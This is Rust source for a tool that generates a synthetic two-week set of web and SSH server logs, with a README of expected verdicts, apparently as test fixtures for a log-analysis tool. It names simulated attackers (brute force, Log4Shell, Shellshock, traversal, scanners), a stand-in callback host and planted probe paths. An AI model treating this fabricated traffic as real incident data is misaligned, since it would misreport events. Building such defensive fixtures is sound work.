//! The committed sample tree: a home/office server (`homeserver`, alice's blog at
//! alice.example.net plus a Gitea behind nginx) from 2025-12-26 to 2026-01-08, UTC.
//! Every actor is one small function below; `README.md` is written from the same
//! constants and from per-IP tallies, so the documentation cannot drift from the data.

use super::civil::{self, DAY, HOUR, MIN, SEC};
use super::rng::Rng;
use super::*;

mod auth;
mod behaviour;
mod web;
use auth::*;
use behaviour::*;
use web::*;

const HOSTNAME: &str = "homeserver";
const SITE: &str = "https://alice.example.net";
const GITEA: &str = "git.example.net";
const DAYS: i64 = 14;

fn start() -> i64 {
    civil::at(2025, 12, 26, 0, 0, 0)
}

/// Midnight (UTC) of day `d`, day 0 being 2025-12-26.
fn day(d: i64) -> i64 {
    start() + d * DAY
}

fn at(d: i64, hour: i64, minute: i64, second: i64) -> i64 {
    day(d) + hour * HOUR + minute * MIN + second * SEC
}

/// Rotations happen when logrotate.timer fires just after midnight. Apache's access
/// log rotates every 3-4 days; its error log skipped one (notifempty) and rsyslog's
/// auth.log runs on its own schedule, so each family has its own cut points.
fn access_cuts() -> Vec<i64> {
    vec![at(3, 0, 0, 1), at(7, 0, 0, 1), at(10, 0, 0, 1)]
}
fn error_cuts() -> Vec<i64> {
    vec![at(7, 0, 0, 1), at(10, 0, 0, 1)]
}
fn auth_cuts() -> Vec<i64> {
    vec![at(4, 0, 0, 1), at(8, 0, 0, 1)]
}

// ----------------------------------------------------------------------------------
// Who is who. Public addresses are documentation ranges (RFC 5737 / RFC 3849) plus a
// few public-looking 45.x/185.x ones for the botnet; 8.8.8.8 and 198.51.100.9 only
// ever appear inside payloads and must never be reported as clients.
// ----------------------------------------------------------------------------------
const OWNER_DESKTOP: &str = "192.168.1.10";
const OWNER_LAPTOP: &str = "192.168.1.23";
const OWNER_PHONES: [(&str, i64); 4] =
    [("100.72.14.201", 2), ("100.72.14.201", 5), ("100.72.133.9", 9), ("100.72.61.77", 12)];
const HOTEL: &str = "198.51.100.77";
const AUTH_USER_GUESSER: &str = "203.0.113.7";
const ALICE_PASSWORD_GUESSER: &str = "198.51.100.201";
const SSH_BRUTEFORCER: &str = "198.51.100.23";
const SSH_BOTNET: [&str; 10] = [
    "45.95.147.229",
    "45.148.10.183",
    "45.156.129.90",
    "185.224.128.17",
    "185.196.8.151",
    "185.242.226.33",
    "198.51.100.134",
    "203.0.113.140",
    "203.0.113.141",
    "203.0.113.142",
];
const SSH_IPV6: &str = "2001:db8:bad::5";
const LOG_INJECTOR: &str = "203.0.113.5";
const NO_IDENT_SCANNER: &str = "198.51.100.150";
const KEX_PROBER: &str = "203.0.113.120";
const OLD_KEX_SCANNER: &str = "198.51.100.171";
const ZGRAB: &str = "198.51.100.61";
const MASSCAN: &str = "203.0.113.201";
const NIKTO: &str = "203.0.113.88";
const SQLMAP: &str = "198.51.100.45";
const NUCLEI: &str = "198.51.100.104";
const WEB_IPV6: &str = "2001:db8:4b1d::23";
const WORDPRESS_BOTS: [&str; 5] = ["198.51.100.12", "198.51.100.13", "45.132.89.21", "185.81.157.200", "203.0.113.99"];
const IOT_BOT: &str = "185.224.128.17"; // also in the ssh botnet
const PHP_EXPLOITER: &str = "45.148.10.183"; // also in the ssh botnet
const LOG4SHELL: &str = "203.0.113.50";
const SHELLSHOCK: &str = "198.51.100.88";
const TRAVERSAL: &str = "198.51.100.36";
const PROXY_PROBER: &str = "203.0.113.199";
const TLS_ON_PORT_80: &str = "203.0.113.150";
const SNEAK: &str = "203.0.113.66";
const CALLBACK_HOST: &str = "198.51.100.9";
const GOOGLEBOTS: [&str; 3] = ["66.249.66.1", "66.249.66.33", "66.249.79.107"];
const BINGBOTS: [&str; 2] = ["40.77.167.52", "157.55.39.10"];
const FRESHRSS: &str = "192.0.2.230";
const FEEDLY: &str = "192.0.2.231";
const LETS_ENCRYPT: [&str; 3] = ["66.133.109.36", "64.78.149.164", "3.19.56.43"];
const ODD_CRAWLER: &str = "192.0.2.222";

/// Attack paths no public signature list knows: only attacker IPs request them.
pub const PLANTED_PATHS: [&str; 4] =
    ["/cgi-mod/webctl", "/owa2/ecp/Current/exporttool.ashx", "/api/v2/.creds_backup.json", "/wsman/relay.do"];

const BROWSERS: [&str; 9] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:146.0) Gecko/20100101 Firefox/146.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:146.0) Gecko/20100101 Firefox/146.0",
];
const OWNER_DESKTOP_UA: &str = BROWSERS[2];
const OWNER_LAPTOP_UA: &str = BROWSERS[1];
const OWNER_PHONE_UA: &str = BROWSERS[4];
const CURL: &str = "curl/8.14.1";
const HYDRA: &str = "Mozilla/5.0 (Hydra)";
const OLD_CHROME: &str = "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36";
const IOT_UA: &str = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:76.0) Gecko/20100101 Firefox/76.0";

struct Page {
    path: &'static str,
    bytes: u64,
    image: Option<(&'static str, u64)>,
    /// Day the page was published; nobody links to it before.
    from_day: i64,
}

const PAGES: [Page; 13] = [
    Page { path: "/", bytes: 9477, image: None, from_day: 0 },
    Page { path: "/blog/", bytes: 14872, image: None, from_day: 0 },
    Page {
        path: "/blog/2025/12/self-hosting-on-a-raspberry-pi/",
        bytes: 23110,
        image: Some(("/img/posts/pi-rack.jpg", 184_220)),
        from_day: 0,
    },
    Page {
        path: "/blog/2025/11/backing-up-with-restic/",
        bytes: 19874,
        image: Some(("/img/posts/restic-graph.png", 61240)),
        from_day: 0,
    },
    Page { path: "/blog/2025/10/my-emacs-setup/", bytes: 17342, image: None, from_day: 0 },
    Page { path: "/blog/2025/09/learning-rust-in-30-days/", bytes: 26002, image: None, from_day: 0 },
    Page { path: "/blog/2025/12/year-in-review-2025/", bytes: 15209, image: None, from_day: 5 },
    Page { path: "/blog/2026/01/happy-new-year/", bytes: 7640, image: None, from_day: 6 },
    Page { path: "/about/", bytes: 6231, image: Some(("/img/alice-hiking.jpg", 96512)), from_day: 0 },
    Page { path: "/projects/", bytes: 8120, image: None, from_day: 0 },
    Page { path: "/projects/knockknock/", bytes: 11877, image: None, from_day: 0 },
    Page { path: "/tags/linux/", bytes: 7311, image: None, from_day: 0 },
    Page { path: "/tags/rust/", bytes: 6987, image: None, from_day: 0 },
];
const ASSETS: [(&str, u64); 4] =
    [("/css/site.css", 6120), ("/js/site.js", 2311), ("/img/avatar.png", 18231), ("/fonts/inter-var.woff2", 48256)];
const EXTERNAL_REFERERS: [&str; 10] = [
    "-",
    "-",
    "-",
    "https://www.google.com/",
    "https://www.google.com/",
    "https://duckduckgo.com/",
    "https://www.bing.com/",
    "https://lobste.rs/",
    "https://mastodon.social/",
    "https://www.reddit.com/r/selfhosted/",
];
const PRIVATE_PAGES: [(&str, u64); 7] = [
    ("/private/", 2210),
    ("/private/notes/", 4410),
    ("/private/notes/2026-01-02.md", 1893),
    ("/private/photos/", 8871),
    ("/private/photos/2025/xmas/IMG_4021.jpg", 2_318_842),
    ("/private/files/", 1530),
    ("/private/files/tax-2025.pdf", 412_003),
];

// ----------------------------------------------------------------------------------
// The world: five logs of (timestamp, line) and per-IP tallies for the README.
// ----------------------------------------------------------------------------------
struct Line {
    ts: i64,
    bytes: Vec<u8>,
    /// False only for the deliberately truncated last line of a rotated file.
    newline: bool,
}

#[derive(Default)]
struct Tally {
    apache_access: u32,
    apache_error: u32,
    auth: u32,
    nginx_access: u32,
    nginx_error: u32,
    days: BTreeSet<i64>,
}

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum LogId {
    ApacheAccess,
    ApacheError,
    Auth,
    NginxAccess,
    NginxError,
}

/// One access-log request, as Apache/nginx's combined format writes it. `request`
/// is the request line already escaped the way the server escapes it.
#[derive(Clone, Copy)]
struct Hit<'a> {
    ip: &'a str,
    user: &'a str,
    request: &'a str,
    status: u16,
    bytes: u64,
    referer: &'a str,
    user_agent: &'a [u8],
}

impl<'a> Hit<'a> {
    fn new(ip: &'a str, request: &'a str, status: u16, bytes: u64, user_agent: &'a str) -> Self {
        Hit { ip, user: "-", request, status, bytes, referer: "-", user_agent: user_agent.as_bytes() }
    }
    fn user(mut self, user: &'a str) -> Self {
        self.user = user;
        self
    }
    fn referer(mut self, referer: &'a str) -> Self {
        self.referer = referer;
        self
    }
}

/// Hands out ids (process ids, nginx connection numbers) that grow with time and
/// never repeat, like the kernel's and nginx's counters do.
struct IdCounter {
    used: BTreeSet<u32>,
    base: u32,
    seconds_per_id: i64,
    epoch: i64,
}

impl IdCounter {
    fn alloc(&mut self, ts: i64) -> u32 {
        let mut id = self.base + ((ts - self.epoch).max(0) / SEC / self.seconds_per_id) as u32;
        while !self.used.insert(id) {
            id += 1;
        }
        id
    }
}

struct World {
    logs: BTreeMap<LogId, Vec<Line>>,
    tally: BTreeMap<String, Tally>,
    pids: IdCounter,
    nginx_connections: IdCounter,
    /// Apache child pids per restart period: (period start, [pid, pid]).
    apache_children: Vec<(i64, [u32; 2])>,
    /// Incidental choices (thread ids, worker picks) that no actor cares about.
    noise: Rng,
}

impl World {
    fn new() -> World {
        let mut world = World {
            logs: BTreeMap::new(),
            tally: BTreeMap::new(),
            pids: IdCounter { used: BTreeSet::new(), base: 104_000, seconds_per_id: 3, epoch: start() },
            nginx_connections: IdCounter { used: BTreeSet::new(), base: 1, seconds_per_id: 90, epoch: nginx_started() },
            apache_children: Vec::new(),
            noise: Rng::named("world noise"),
        };
        // Apache's children are replaced on every graceful restart (rotations) and
        // on the reboot after the power cut.
        let mut restarts = vec![start()];
        restarts.extend(access_cuts());
        restarts.push(power_back());
        restarts.sort();
        for restart in restarts {
            let first = world.pids.alloc(restart);
            let second = world.pids.alloc(restart);
            world.apache_children.push((restart, [first, second]));
        }
        world
    }

    fn push(&mut self, log: LogId, ts: i64, bytes: Vec<u8>, ip: Option<&str>) {
        // The machine was off during the power cut: nothing was logged.
        if ts > power_cut() && ts < power_back() {
            return;
        }
        if let Some(ip) = ip {
            let tally = self.tally.entry(ip.to_string()).or_default();
            match log {
                LogId::ApacheAccess => tally.apache_access += 1,
                LogId::ApacheError => tally.apache_error += 1,
                LogId::Auth => tally.auth += 1,
                LogId::NginxAccess => tally.nginx_access += 1,
                LogId::NginxError => tally.nginx_error += 1,
            }
            tally.days.insert((ts - start()).div_euclid(DAY));
        }
        self.logs.entry(log).or_default().push(Line { ts, bytes, newline: true });
    }

    fn render_hit(ts: i64, hit: &Hit) -> Vec<u8> {
        let mut line = Vec::with_capacity(256);
        line.extend_from_slice(hit.ip.as_bytes());
        line.extend_from_slice(b" - ");
        line.extend_from_slice(hit.user.as_bytes());
        line.extend_from_slice(b" [");
        civil::clf(&mut line, ts);
        let _ = write!(line, "] \"{}\" {} {} \"{}\" \"", hit.request, hit.status, hit.bytes, hit.referer);
        line.extend_from_slice(hit.user_agent);
        line.push(b'"');
        line
    }

    fn access(&mut self, ts: i64, hit: Hit) {
        let line = World::render_hit(ts, &hit);
        self.push(LogId::ApacheAccess, ts, line, Some(hit.ip));
    }

    fn nginx_access(&mut self, ts: i64, hit: Hit) {
        let line = World::render_hit(ts, &hit);
        self.push(LogId::NginxAccess, ts, line, Some(hit.ip));
    }

    fn apache_pid(&mut self, ts: i64) -> u32 {
        let children =
            self.apache_children.iter().rev().find(|(since, _)| *since <= ts).map(|(_, pids)| *pids).unwrap_or([0, 0]);
        children[self.noise.below(2) as usize]
    }

    /// `[Tue Jan 06 02:32:23.803330 2026] [module:level] [pid P:tid T] [client IP:port] msg`
    fn apache_error(&mut self, ts: i64, module_level: &str, client: Option<(&str, u16)>, message: &str) {
        let pid = self.apache_pid(ts);
        // pthread ids as glibc prints them: large, page-aligned-ish numbers.
        let tid = 139_826_000_000_000u64 + self.noise.below(400_000) * 4096;
        let mut line = Vec::with_capacity(200);
        line.push(b'[');
        civil::apache_error(&mut line, ts);
        let _ = write!(line, "] [{module_level}] [pid {pid}:tid {tid}] ");
        if let Some((ip, port)) = client {
            let _ = write!(line, "[client {ip}:{port}] ");
        }
        line.extend_from_slice(message.as_bytes());
        self.push(LogId::ApacheError, ts, line, client.map(|(ip, _)| ip));
    }

    /// Apache's main process notices (restarts): no client, parent pid.
    fn apache_notice(&mut self, ts: i64, module: &str, message: &str) {
        let mut line = Vec::with_capacity(160);
        line.push(b'[');
        civil::apache_error(&mut line, ts);
        let _ = write!(line, "] [{module}:notice] [pid 812:tid 139826411825024] {message}");
        self.push(LogId::ApacheError, ts, line, None);
    }

    /// `2026-01-06T00:02:28.123456+00:00 homeserver prog[pid]: msg`; `ip` is only
    /// for the tally (the message itself says who).
    fn auth(&mut self, ts: i64, program: &str, pid: u32, message: &str, ip: Option<&str>) {
        let mut line = Vec::with_capacity(160);
        civil::rsyslog(&mut line, ts);
        let _ = write!(line, " {HOSTNAME} {program}[{pid}]: {message}");
        self.push(LogId::Auth, ts, line, ip);
    }

    /// `2026/01/06 02:32:23 [error] 1234#1234: *17 msg, client: IP, server: ...`
    fn nginx_error(&mut self, ts: i64, level: &str, message: &str, client: Option<(&str, &str)>) {
        let mut line = Vec::with_capacity(220);
        civil::nginx(&mut line, ts);
        match client {
            Some((ip, request)) => {
                let connection = self.nginx_connections.alloc(ts);
                let _ = write!(
                    line,
                    " [{level}] 1234#1234: *{connection} {message}, client: {ip}, server: {GITEA}, request: \"{request}\", host: \"{GITEA}\""
                );
            }
            None => {
                let _ = write!(line, " [{level}] 1233#1233: {message}");
            }
        }
        self.push(LogId::NginxError, ts, line, client.map(|(ip, _)| ip));
    }

    fn raw(&mut self, log: LogId, ts: i64, bytes: Vec<u8>, ip: Option<&str>) {
        self.push(log, ts, bytes, ip);
    }

    fn pid(&mut self, ts: i64) -> u32 {
        self.pids.alloc(ts)
    }
}

/// A random instant on day `d` within `hours`, to the microsecond.
fn random_time(rng: &mut Rng, d: i64, hours: std::ops::Range<i64>) -> i64 {
    let hour = rng.range(hours.start, hours.end);
    at(d, hour, rng.range(0, 60), rng.range(0, 60)) + micros(rng)
}

fn micros(rng: &mut Rng) -> i64 {
    rng.range(0, SEC)
}

fn not_modified_bytes(rng: &mut Rng) -> u64 {
    rng.range(180, 260) as u64
}

fn page_url(path: &str) -> String {
    format!("{SITE}{path}")
}

fn get(path: &str) -> String {
    format!("GET {path} HTTP/1.1")
}

// ----------------------------------------------------------------------------------
// Benign traffic.
// ----------------------------------------------------------------------------------

/// One browser visit: a page, its assets (200 on a first visit, 304 later), the
/// missing favicon, then a few more pages following internal links.
#[allow(clippy::too_many_arguments)]
fn browse(w: &mut World, rng: &mut Rng, ip: &str, ua: &str, start_ts: i64, first_visit: bool, pages: usize) -> i64 {
    let published: Vec<&Page> = PAGES.iter().filter(|p| p.from_day <= (start_ts - start()).div_euclid(DAY)).collect();
    let mut t = start_ts;
    let mut referer = rng.pick(&EXTERNAL_REFERERS).to_string();
    for n in 0..pages {
        let page = if n == 0 && rng.chance(0.6) {
            published[2 + rng.below(published.len() as u64 - 2) as usize]
        } else {
            *rng.pick(&published)
        };
        let request = get(page.path);
        w.access(t, Hit::new(ip, &request, 200, page.bytes + 260, ua).referer(&referer));
        let url = page_url(page.path);
        let mut asset_t = t;
        let mut assets: Vec<(&str, u64)> = if n == 0 { ASSETS.to_vec() } else { Vec::new() };
        if let Some(image) = page.image {
            assets.push(image);
        }
        for (path, bytes) in assets {
            asset_t += rng.range(40_000, 900_000);
            let request = get(path);
            if first_visit {
                w.access(asset_t, Hit::new(ip, &request, 200, bytes + 250, ua).referer(&url));
            } else if rng.chance(0.5) {
                let bytes = not_modified_bytes(rng);
                w.access(asset_t, Hit::new(ip, &request, 304, bytes, ua).referer(&url));
            }
        }
        if n == 0 && first_visit {
            asset_t += rng.range(100_000, 600_000);
            w.access(asset_t, Hit::new(ip, "GET /favicon.ico HTTP/1.1", 404, 492, ua).referer(&url));
        }
        referer = url;
        t += rng.range(15 * SEC, 4 * MIN);
    }
    t
}

fn benign_visitors(w: &mut World) {
    let mut rng = Rng::named("benign visitors");
    let mut ips: Vec<String> = (0..40u64).map(|i| format!("192.0.2.{}", 10 + i * 5 + rng.below(5))).collect();
    ips.extend((0..4).map(|i| format!("2001:db8:1:{:x}::{:x}", 0x20 + i * 7, 0x1000 + rng.below(0xefff))));
    for (i, ip) in ips.iter().enumerate() {
        let ua = BROWSERS[(i * 7 + 3) % BROWSERS.len()];
        let visits = 1 + rng.below(3);
        let mut days: BTreeSet<i64> = BTreeSet::new();
        while days.len() < visits as usize {
            days.insert(rng.range(0, DAYS));
        }
        for (n, d) in days.into_iter().enumerate() {
            let hour = *rng.pick(&[7, 8, 9, 11, 12, 13, 14, 16, 17, 18, 19, 20, 21, 22, 23]);
            let t = at(d, hour, rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
            let pages = 1 + rng.below(4) as usize;
            let end = browse(w, &mut rng, ip, ua, t, n == 0, pages);
            // Chrome preconnects a spare socket and never uses it: Apache logs a 408.
            if ua.contains("Chrome/") && (i == 0 || rng.chance(0.15)) {
                w.access(end + 20 * SEC, Hit::new(ip, "-", 408, 0, "-"));
            }
        }
    }
}

fn search_bots(w: &mut World) {
    let mut rng = Rng::named("search bots");
    let googlebot = [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/143.0.7499.169 Safari/537.36",
    ];
    let bingbot = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36";
    // Links that died in a site redesign: well-behaved bots keep asking for them.
    let gone = ["/blog/2024/03/old-post-removed/", "/tags/emacs/", "/index.xml"];
    for d in 0..DAYS {
        for (bot, ips, per_day) in [("google", &GOOGLEBOTS[..], 6), ("bing", &BINGBOTS[..], 3)] {
            let ip = *rng.pick(ips);
            let ua = if bot == "google" { *rng.pick(&googlebot) } else { bingbot };
            let mut t = at(d, rng.range(0, 6), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
            w.access(t, Hit::new(ip, "GET /robots.txt HTTP/1.1", 200, 412, ua));
            let published: Vec<&Page> = PAGES.iter().filter(|p| p.from_day <= d).collect();
            for _ in 0..rng.range(1, per_day) {
                t += rng.range(10 * MIN, 150 * MIN);
                let request;
                let hit = if rng.chance(0.12) {
                    let path: &str = gone[rng.below(gone.len() as u64) as usize];
                    request = get(path);
                    Hit::new(ip, &request, 404, 492, ua)
                } else if rng.chance(0.1) {
                    Hit::new(ip, "GET /sitemap.xml HTTP/1.1", 200, 3377, ua)
                } else {
                    let page = rng.pick(&published);
                    request = get(page.path);
                    Hit::new(ip, &request, 200, page.bytes + 260, ua)
                };
                w.access(t, hit);
            }
        }
    }
}

fn feed_readers(w: &mut World) {
    let mut rng = Rng::named("feed readers");
    let readers = [
        (FRESHRSS, "FreshRSS/1.27.1 (Linux; https://freshrss.org)", 6),
        (FEEDLY, "Feedly/1.0 (+https://feedly.com/poller.html; 3 subscribers; )", 8),
    ];
    for (ip, ua, every_hours) in readers {
        let mut t = start() + rng.range(0, every_hours * HOUR);
        let mut last_seen_day = -1;
        while t < day(DAYS) {
            let d = (t - start()).div_euclid(DAY);
            // The feed changes when a post is published (days 5 and 6).
            let changed = [5, 6].iter().any(|&p| p <= d && p > last_seen_day);
            if changed || last_seen_day < 0 {
                w.access(t, Hit::new(ip, "GET /feed.xml HTTP/1.1", 200, 48213, ua));
            } else {
                let bytes = not_modified_bytes(&mut rng);
                w.access(t, Hit::new(ip, "GET /feed.xml HTTP/1.1", 304, bytes, ua));
            }
            last_seen_day = d;
            t += every_hours * HOUR + rng.range(-5 * MIN, 5 * MIN);
        }
    }
}

fn lets_encrypt_renewal(w: &mut World) {
    let mut rng = Rng::named("lets encrypt");
    let ua = "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)";
    let token = "/.well-known/acme-challenge/Zk3uH1v9aQ7pL0sXn2cR8tYwE4bM6dJ5gF_oKiVh-Ns";
    let mut t = at(8, 0, 31, 7) + micros(&mut rng);
    for ip in LETS_ENCRYPT {
        t += rng.range(50_000, 900_000);
        w.access(t, Hit::new(ip, &get(token), 200, 87 + 230, ua));
    }
}

/// A crawler that writes raw Latin-1 in its User-Agent. Real Apache escapes such
/// bytes; this line is here to prove non-UTF-8 input is survived, not rejected.
fn odd_crawler(w: &mut World) {
    let ua: &[u8] = b"Mozilla/5.0 (compatible; Caf\xe9Crawler/0.9; +http://caf\xe9.example/bot; \xff\xfe)";
    let t = at(8, 14, 2, 51) + 311_907;
    for (offset, request, bytes) in [(0, "GET /robots.txt HTTP/1.1", 412), (2, "GET / HTTP/1.1", 9737)] {
        let mut hit = Hit::new(ODD_CRAWLER, request, 200, bytes, "");
        hit.user_agent = ua;
        w.access(t + offset * SEC, hit);
    }
}

// ----------------------------------------------------------------------------------
// The owner: alice on the LAN, on the phone carrier's CGNAT, and from a hotel.
// ----------------------------------------------------------------------------------

/// A /private/ session with basic auth. The browser's first request carries no
/// credentials (401 "-"); `typo` adds one wrong password before the right one.
#[allow(clippy::too_many_arguments)]
fn private_session(
    w: &mut World,
    rng: &mut Rng,
    ip: &str,
    ua: &str,
    t0: i64,
    ask_first: bool,
    typo: bool,
    pages: usize,
) -> i64 {
    let mut t = t0;
    if ask_first {
        w.access(t, Hit::new(ip, "GET /private/ HTTP/1.1", 401, 712, ua));
        t += rng.range(3 * SEC, 9 * SEC);
    }
    if typo {
        w.access(t, Hit::new(ip, "GET /private/ HTTP/1.1", 401, 712, ua).user("alice"));
        let port = rng.port();
        w.apache_error(
            t + rng.range(200, 900),
            "auth_basic:error",
            Some((ip, port)),
            "AH01617: user alice: authentication failure for \"/private/\": Password Mismatch",
        );
        t += rng.range(4 * SEC, 12 * SEC);
    }
    let mut previous = page_url("/private/");
    for n in 0..pages {
        let (path, bytes) = if n == 0 { PRIVATE_PAGES[0] } else { *rng.pick(&PRIVATE_PAGES) };
        let request = get(path);
        let referer = if n == 0 { "-".to_string() } else { previous.clone() };
        w.access(t, Hit::new(ip, &request, 200, bytes + 280, ua).user("alice").referer(&referer));
        previous = page_url(path);
        t += rng.range(5 * SEC, 3 * MIN);
    }
    t
}

/// A line someone appended by hand: `hugo ... >> access.log` instead of `> build.log`.
fn junk_in_access_log(w: &mut World) {
    w.raw(LogId::ApacheAccess, at(8, 19, 2, 13), b"Total in 412 ms".to_vec(), None);
}

fn build() -> World {
    let mut w = World::new();
    benign_visitors(&mut w);
    search_bots(&mut w);
    feed_readers(&mut w);
    lets_encrypt_renewal(&mut w);
    odd_crawler(&mut w);
    owner_web(&mut w);
    owner_ssh_and_system(&mut w);
    basic_auth_user_guesser(&mut w);
    alice_password_guesser(&mut w);
    ssh_bruteforcer(&mut w);
    ssh_botnet(&mut w);
    ssh_ipv6_attacker(&mut w);
    ssh_log_injection(&mut w);
    ssh_noise(&mut w);
    reboot_after_power_cut(&mut w);
    apache_rotations(&mut w);
    nikto(&mut w);
    sqlmap(&mut w);
    nuclei(&mut w);
    ipv6_web_scanner(&mut w);
    zgrab_and_masscan(&mut w);
    wordpress_bots(&mut w);
    iot_bot(&mut w);
    php_exploiter(&mut w);
    log4shell(&mut w);
    shellshock(&mut w);
    traversal(&mut w);
    proxy_prober(&mut w);
    tls_on_plain_http(&mut w);
    sneak_returner(&mut w);
    wordlist_campaign(&mut w);
    gitea_login_flood(&mut w);
    quiet_agent_prober(&mut w);
    gitea(&mut w);
    junk_in_access_log(&mut w);
    for lines in w.logs.values_mut() {
        // Stable: lines with equal stamps keep the order their actor wrote them in.
        lines.sort_by_key(|line| line.ts);
    }
    truncate_last_line_before(&mut w, LogId::ApacheAccess, access_cuts()[1]);
    w
}

/// The rotated file that ends at `cut` loses the tail of its last line (copied while
/// being written): no newline, cut inside the request so no format can take it.
fn truncate_last_line_before(w: &mut World, log: LogId, cut: i64) {
    let lines = w.logs.get_mut(&log).expect("log has lines");
    let last = lines.iter().rposition(|line| line.ts < cut).expect("a line before the cut");
    let bytes = &lines[last].bytes;
    let quote = bytes.iter().position(|&b| b == b'"').unwrap_or(bytes.len() / 2);
    let keep = (quote + 10).min(bytes.len());
    lines[last].bytes.truncate(keep);
    lines[last].newline = false;
}

// ----------------------------------------------------------------------------------
// Writing the tree.
// ----------------------------------------------------------------------------------
struct FileInfo {
    path: String,
    lines: usize,
    bytes: usize,
    first: Option<i64>,
    last: Option<i64>,
}

/// Splits `lines` at `cuts` (ascending) and writes `base` (newest), `base.1`, then
/// `base.2.gz`... (delaycompress: the first rotation stays plain).
fn write_rotated(root: &Path, base: &str, lines: &[Line], cuts: &[i64]) -> io::Result<Vec<FileInfo>> {
    let periods = cuts.len() + 1;
    let mut infos = Vec::new();
    for period in 0..periods {
        let from = if period == 0 { i64::MIN } else { cuts[period - 1] };
        let until = cuts.get(period).copied().unwrap_or(i64::MAX);
        let chunk: Vec<&Line> = lines.iter().filter(|l| l.ts >= from && l.ts < until).collect();
        let mut content = Vec::new();
        for line in &chunk {
            content.extend_from_slice(&line.bytes);
            if line.newline {
                content.push(b'\n');
            }
        }
        let index = periods - 1 - period;
        let name = match index {
            0 => base.to_string(),
            1 => format!("{base}.1"),
            n => format!("{base}.{n}.gz"),
        };
        let data = if index >= 2 { gzip_bytes(&content)? } else { content };
        let path = root.join(&name);
        if let Some(parent) = path.parent() {
            fs::create_dir_all(parent)?;
        }
        fs::write(&path, &data)?;
        infos.push(FileInfo {
            path: name,
            lines: chunk.len(),
            bytes: data.len(),
            first: chunk.first().map(|l| l.ts),
            last: chunk.last().map(|l| l.ts),
        });
    }
    infos.reverse();
    Ok(infos)
}

pub fn write_tree(out: &Path) -> io::Result<()> {
    let w = build();
    fs::create_dir_all(out)?;
    let empty = Vec::new();
    let log = |id| w.logs.get(&id).unwrap_or(&empty);
    let mut files = Vec::new();
    files.extend(write_rotated(out, "apache2/access.log", log(LogId::ApacheAccess), &access_cuts())?);
    files.extend(write_rotated(out, "apache2/error.log", log(LogId::ApacheError), &error_cuts())?);
    files.extend(write_rotated(out, "auth.log", log(LogId::Auth), &auth_cuts())?);
    files.extend(write_rotated(out, "nginx/access.log", log(LogId::NginxAccess), &[])?);
    files.extend(write_rotated(out, "nginx/error.log", log(LogId::NginxError), &[])?);
    let readme = readme(&w, &files);
    fs::write(out.join("README.md"), readme)?;
    let total: usize = files.iter().map(|f| f.bytes).sum();
    eprintln!("knocklog-gen: wrote {} files ({} bytes) and README.md into {}", files.len(), total, out.display());
    Ok(())
}

// ----------------------------------------------------------------------------------
// README: the actor table (hand-written expectations) and the tallies (computed).
// ----------------------------------------------------------------------------------
struct Actor {
    ips: Vec<String>,
    role: &'static str,
    expected: &'static str,
}

fn actors() -> Vec<Actor> {
    let one = |ip: &str| vec![ip.to_string()];
    let many = |ips: &[&str]| ips.iter().map(|ip| ip.to_string()).collect::<Vec<_>>();
    vec![
        Actor { ips: many(&[OWNER_DESKTOP, OWNER_LAPTOP]), role: "the owner (alice) on the LAN: /private/ with basic auth (200, user alice), ssh `Accepted publickey`, sudo; day 7 one mistyped password from the laptop (AH01617 then 200)", expected: "ok (never flagged: private address, successful login)" },
        Actor { ips: many(&["100.72.14.201", "100.72.133.9", "100.72.61.77"]), role: "alice's phone on the carrier's CGNAT (100.64.0.0/10): 401 without credentials, then 200 as alice; one ssh publickey login", expected: "ok" },
        Actor { ips: one(HOTEL), role: "alice from a hotel Wi-Fi on day 8: one AH01617 Password Mismatch for alice, then 200 as alice on /private/", expected: "watch (not block): one failure followed by success" },
        Actor { ips: one(AUTH_USER_GUESSER), role: "basic-auth user guesser (Hydra): ~110 AH01618 `user X not found` + 401s over 20 min on day 11, then 6 nginx `user \"X\" was not found`", expected: "block: http auth brute force" },
        Actor { ips: one(ALICE_PASSWORD_GUESSER), role: "guesses alice's password: reads /about/, 60 AH01617 Password Mismatch for alice over ~30 min (day 4), then ssh `Failed password for alice`", expected: "block: http auth + ssh brute force on a real account" },
        Actor { ips: one(SSH_BRUTEFORCER), role: "ssh brute force on day 11 00:02-01:05: `Failed password for root`, `Invalid user X`, `Connection closed by invalid user`, max auth attempts", expected: "block: ssh brute force" },
        Actor { ips: many(&SSH_BOTNET), role: "ssh botnet: 1-2 connections on 1-3 days each (root, ubuntu, solana, ...); 185.224.128.17 and 45.148.10.183 also attack the web server", expected: "watch or block each (few tries); block for the two that also exploit the web" },
